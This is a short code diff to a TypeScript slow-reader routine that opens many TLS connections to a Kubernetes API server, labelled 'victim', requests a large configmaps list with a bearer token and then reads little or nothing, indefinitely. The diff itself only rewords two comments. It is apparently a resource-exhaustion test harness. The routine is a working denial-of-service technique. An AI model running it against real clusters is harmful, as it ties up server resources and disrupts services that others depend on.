@@ -8,7 +8,9 @@ const path = `/api/v1/namespaces/${largeNamespace}/configmaps`;
 const sipEveryMs = 200;
 const sipBytes = 4_096;
 
-/** Asks for a large list on so many connections, and reads nothing of it or a sip now and then; goes on for ever. */
+/**
+ * Requests a large list on this many connections, and reads nothing of it, or a little from time to time. Never ends.
+ */
 export function startSlowReaders(victim: Victim, token: string, count: number): void {
   const head = `GET ${path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer ${token}\r\n\r\n`;
   const fields = literals(
@@ -29,7 +31,7 @@ function sip(victim: Victim, head: string): void {
   const socket = tlsConnect({ host, port, ca, servername: 'localhost' });
   socket.on('error', () => {});
   socket.once('secureConnect', () => socket.write(head));
-  // Not flowing: what is read is read by the clock.
+  // The socket does not flow: a timer decides when to read.
   socket.on('readable', () => {});
   const timer = setInterval(() => socket.read(Math.min(sipBytes, socket.readableLength)), sipEveryMs);
   socket.once('close', () => {
